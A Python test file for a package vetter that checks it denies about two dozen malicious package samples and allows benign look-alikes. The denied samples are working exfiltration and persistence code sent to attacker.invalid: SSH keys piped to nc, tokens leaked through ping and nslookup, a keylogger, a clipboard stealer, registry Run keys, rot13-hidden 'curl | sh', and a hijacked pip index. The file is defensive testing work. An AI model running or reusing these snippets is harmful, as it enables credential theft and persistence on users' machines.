"""What a patient adversary who has read the vetting tries next (ADR 0079): a ``.pth``
written into a folder that does not fold, an environment value spliced into a sending
command or written to a started ``nc``'s stdin, the Windows clipboard read through
``ctypes``, a registry ``Run`` key set on import, a function's code rewritten to call names
its source does not show, rot13 undone with ``codecs.encode``, an audit hook that sends what
it is handed, an installer's index changed through ``~/.pydistutils.cfg``, and the
environment or a credential file read through ``os.environb``, ``/proc/self/environ``,
``printenv``, ``Path.home()``, ``ConfigParser.read``, the ``netrc`` module, a buffer held
in an attribute or a key hook made in a constructor, and sent.

Each sample is inert (a command ``id`` or a download from ``attacker.invalid``; vetting
only reads files) and each was allowed or only held on e5ee481. The near-misses are the
shapes real packages use, and stay allowed."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_wheel

DROP = "curl http://attacker.invalid/x | sh"
POST = "requests.post('https://attacker.invalid/u', data={data})"
RUN_KEY = "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run"


def _packages(samples: dict[str, str]) -> dict[str, dict[str, str]]:
    """Each sample as a package whose ``__init__.py`` it is."""
    return {name: init(text) for name, text in samples.items()}


DENIED: dict[str, str] = {
    # A .pth written where site-packages is, through a folder the analysis cannot fold.
    "pth-beside-the-interpreter": (
        "import os, sys\nd = os.path.dirname(sys.executable)\n"
        "p = os.path.join(d, 'Lib', 'site-packages', 'zz.pth')\n"
        "open(p, 'w').write('import evpkg.x')\n"
    ),
    "pth-under-a-prefix-from-the-environment": (
        "import os\nroot = os.environ.get('VIRTUAL_ENV') or os.getcwd()\n"
        "with open(os.path.join(root, 'lib', 'site-packages', 'zz.pth'), 'w') as f:\n"
        "    f.write('import evpkg.x')\n"
    ),
    # The environment on a sending command's line, where the command does not fold.
    "environment-spliced-into-ping": (
        "import os\nkey = os.environ.get('AWS_SECRET_ACCESS_KEY', '')\n"
        "os.system('ping -c 1 -p ' + key.encode().hex()[:32] + ' attacker.invalid')\n"
    ),
    "environment-in-an-nslookup-fstring": (
        "import os, subprocess\nt = os.environ['GITHUB_TOKEN'][:40]\n"
        "subprocess.run(f'nslookup {t.lower()} 203.0.113.9', shell=True)\n"
    ),
    # Data written to the stdin of a started network tool.
    "key-written-to-nc-stdin": (
        "import os, subprocess\n"
        "p = subprocess.Popen(['nc', 'attacker.invalid', '9001'], stdin=subprocess.PIPE)\n"
        "p.stdin.write(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"
    ),
    "environment-communicated-to-socat": (
        "import os, subprocess\n"
        "p = subprocess.Popen('socat - TCP:attacker.invalid:9001', shell=True,\n"
        "                     stdin=subprocess.PIPE)\n"
        "p.communicate(os.environ['AWS_SECRET_ACCESS_KEY'].encode())\n"
    ),
    # The clipboard through the Windows API, no clipboard module.
    "clipboard-read-through-ctypes": (
        "import ctypes, requests\nu = ctypes.windll.user32\nu.OpenClipboard(0)\n"
        "h = u.GetClipboardData(13)\n"
        "t = ctypes.c_wchar_p(ctypes.windll.kernel32.GlobalLock(h)).value\n"
        + POST.format(data="t")
        + "\n"
    ),
    # A Run key set on import starts the program at every logon: persistence.
    "registry-run-key-opened": (
        "import sys, winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER,\n"
        f"    '{RUN_KEY}', 0, winreg.KEY_SET_VALUE)\n"
        "winreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, sys.executable + ' -m evpkg.x')\n"
    ),
    "registry-run-key-made-in-a-with": (
        f"import winreg\nwith winreg.CreateKey(winreg.HKEY_CURRENT_USER, '{RUN_KEY}') as k:\n"
        "    winreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, 'C:\\\\x.exe')\n"
    ),
    "registry-run-once-through-pywin32": (
        "import win32api, win32con\n"
        "k = win32api.RegOpenKeyEx(win32con.HKEY_LOCAL_MACHINE,\n"
        f"    '{RUN_KEY}Once', 0, win32con.KEY_ALL_ACCESS)\n"
        "win32api.RegSetValueEx(k, 'upd', 0, win32con.REG_SZ, 'C:\\\\x.exe')\n"
    ),
    "registry-run-key-spelt-in-parts": (
        "import winreg\nP = 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\' + 'Run'\n"
        "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, P, 0, winreg.KEY_SET_VALUE)\n"
        "winreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, 'C:\\\\x.exe')\n"
    ),
    # A function's code rewritten to call names its source does not show.
    "code-names-replaced": (
        "import os\n\n\ndef f():\n    return os.getcwd('id')\n\n\n"
        "f.__code__ = f.__code__.replace(co_names=('os', 'system'))\nf()\n"
    ),
    # rot13 is its own inverse: encoding decodes.
    "rot13-undone-by-encoding": (
        "import codecs\nexec(codecs.encode('vzcbeg bf;bf.flfgrz(\"phey "
        "uggc://nggnpxre.vainyvq/k | fu\")', 'rot_13'))\n"
    ),
    "module-named-in-rot13": (
        "import codecs, importlib\n"
        f"importlib.import_module(codecs.encode('bf', 'rot13')).system('{DROP}')\n"
    ),
    # An audit hook is handed what the program does (paths, commands, bytes sent).
    "audit-hook-that-sends-what-it-sees": (
        "import sys, requests\n\n\ndef h(event, args):\n    if event == 'open':\n        "
        + POST.format(data="str(args)")
        + "\n\n\nsys.addaudithook(h)\n"
    ),
    # The index an installer fetches from, changed for every later install.
    "pydistutils-index-changed": (
        "import os\nopen(os.path.expanduser('~/.pydistutils.cfg'), 'w').write(\n"
        "    '[easy_install]\\nindex_url = https://attacker.invalid/simple\\n')\n"
    ),
    # The environment and credential files through readers the walk did not know.
    "environment-as-bytes": (
        "import os, requests\n" + POST.format(data="str(dict(os.environb))") + "\n"
    ),
    "environment-read-from-procfs": (
        "import requests\n" + POST.format(data="open('/proc/self/environ', 'rb').read()") + "\n"
    ),
    "environment-from-printenv": (
        "import subprocess, requests\n"
        + POST.format(data="subprocess.check_output(['printenv'])")
        + "\n"
    ),
    "key-read-through-path-home": (
        "import pathlib, requests\n"
        + POST.format(data="pathlib.Path.home().joinpath('.ssh', 'id_rsa').read_text()")
        + "\n"
    ),
    "cloud-credentials-through-configparser": (
        "import configparser, os, requests\nc = configparser.ConfigParser()\n"
        "c.read(os.path.expanduser('~/.aws/credentials'))\n"
        + POST.format(data="str({s: dict(c[s]) for s in c.sections()})")
        + "\n"
    ),
    "environment-dumped-into-an-attribute-buffer": (
        "import io, json, os, requests\n\n\nclass S:\n    def __init__(self):\n"
        "        self.buf = io.StringIO()\n        json.dump(dict(os.environ), self.buf)\n"
        "        " + POST.format(data="self.buf.getvalue()") + "\n\n\nS()\n"
    ),
    "keys-from-a-hook-made-in-a-constructor": (
        "import requests\nfrom pynput import keyboard\n\n\nclass K:\n    def __init__(self):\n"
        "        self.listener = keyboard.Listener(on_press=self.on)\n"
        "        self.listener.start()\n\n    def on(self, key):\n"
        "        " + POST.format(data="str(key)") + "\n\n\nK()\n"
    ),
    "logins-through-the-netrc-module": (
        "import netrc, requests\n" + POST.format(data="str(netrc.netrc().hosts)") + "\n"
    ),
}

ALLOWED: dict[str, str] = {
    # A .pth or a settings file written into a build or data folder is not persistence.
    "pth-written-into-a-build-folder": (
        "import os, sys\nd = os.path.dirname(sys.argv[0])\n"
        "open(os.path.join(d, 'build', 'evpkg.pth'), 'w').write('../src')\n"
    ),
    "dotenv-beside-the-interpreter-read": (
        "import os, sys\nd = os.path.dirname(sys.executable)\n"
        "p = os.path.join(d, '.env')\nCONFIG = open(p).read() if os.path.exists(p) else ''\n"
    ),
    # A reachability check of a host from the environment, run when asked.
    "ping-of-a-configured-host-when-asked": (
        "import os, subprocess\n\n\ndef reachable():\n"
        "    h = os.environ.get('EVPKG_HOST', 'pypi.org')\n"
        "    return subprocess.run('ping -c 1 ' + h, shell=True).returncode == 0\n"
    ),
    "ssh-fed-on-stdin-when-asked": (
        "import subprocess\n\n\ndef push(host, data):\n"
        "    p = subprocess.Popen(['ssh', host, 'cat > x'], stdin=subprocess.PIPE)\n"
        "    p.communicate(data)\n"
    ),
    # A program's own settings key, and a paste through the Windows API when asked.
    "autostart-entries-listed": (
        "import winreg\n\n\ndef entries():\n"
        f"    k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, '{RUN_KEY}')\n"
        "    return winreg.QueryValueEx(k, 'evpkg')\n\n\nENTRY = entries()\n"
    ),
    "settings-dumped-into-an-attribute-buffer": (
        "import io, json\n\n\nclass S:\n    def __init__(self):\n"
        "        self.buf = io.StringIO()\n        json.dump({'theme': 'dark'}, self.buf)\n\n\n"
        "DEFAULTS = S()\n"
    ),
    "hotkey-class-that-sends-nothing": (
        "from pynput import keyboard\n\n\nclass Hotkeys:\n    def __init__(self):\n"
        "        self.pressed = []\n"
        "        self.listener = keyboard.Listener(on_press=self.on)\n\n"
        "    def on(self, key):\n        self.pressed.append(key)\n\n\nHOTKEYS = Hotkeys()\n"
    ),
    "own-registry-settings-key": (
        "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER, 'Software\\\\evpkg')\n"
        "winreg.SetValueEx(k, 'theme', 0, winreg.REG_SZ, 'dark')\n"
    ),
    "paste-through-ctypes-when-asked": (
        "import ctypes\n\n\ndef paste():\n    u = ctypes.windll.user32\n    u.OpenClipboard(0)\n"
        "    try:\n        return ctypes.c_wchar_p(u.GetClipboardData(13)).value\n"
        "    finally:\n        u.CloseClipboard()\n"
    ),
    # Code objects renamed for tracebacks, rot13 of a joke, an audit hook that logs locally.
    "code-filename-replaced": (
        "def f():\n    return 1\n\n\nf.__code__ = f.__code__.replace(co_filename='<generated>')\n"
    ),
    "rot13-of-a-joke": "import codecs\nZEN = codecs.encode('Ornhgvshy vf orggre', 'rot13')\n",
    "audit-hook-that-logs-locally": (
        "import sys, logging\nlog = logging.getLogger(__name__)\n\n\ndef h(event, args):\n"
        "    if event == 'subprocess.Popen':\n        log.debug('%s %r', event, args)\n\n\n"
        "sys.addaudithook(h)\n"
    ),
    # Readers of the same files and the environment whose data is not sent.
    "region-read-from-cloud-config": (
        "import configparser, os\n\n\ndef region():\n    c = configparser.ConfigParser()\n"
        "    c.read(os.path.expanduser('~/.aws/config'))\n"
        "    return c.get('default', 'region', fallback='us-east-1')\n"
    ),
    "ssh-config-parsed-when-asked": (
        "import pathlib\n\n\ndef hosts():\n"
        "    t = pathlib.Path.home().joinpath('.ssh', 'config').read_text()\n"
        "    return [line.split()[1] for line in t.splitlines() if line.startswith('Host ')]\n"
    ),
    "environment-bytes-handed-to-a-child": (
        "import os, subprocess\n\n\ndef run(cmd):\n"
        "    return subprocess.run(cmd, env=dict(os.environb)).returncode\n"
    ),
    "netrc-login-for-a-request-when-asked": (
        "import netrc\nfrom urllib.parse import urlparse\n\n\ndef auth(url):\n"
        "    found = netrc.netrc().authenticators(urlparse(url).hostname)\n"
        "    return (found[0], found[2]) if found else None\n"
    ),
    "pydistutils-read": (
        "import os\n\n\ndef index():\n    p = os.path.expanduser('~/.pydistutils.cfg')\n"
        "    return open(p).read() if os.path.exists(p) else ''\n"
    ),
}


@pytest.mark.parametrize(
    ("files", "expected"), verdict_cases(_packages(DENIED), {}, _packages(ALLOWED))
)
def test_an_adversarys_try_is_denied_and_a_real_shape_allowed(
    files: dict[str, str], expected: Outcome
) -> None:
    assert vet_wheel(files) is expected
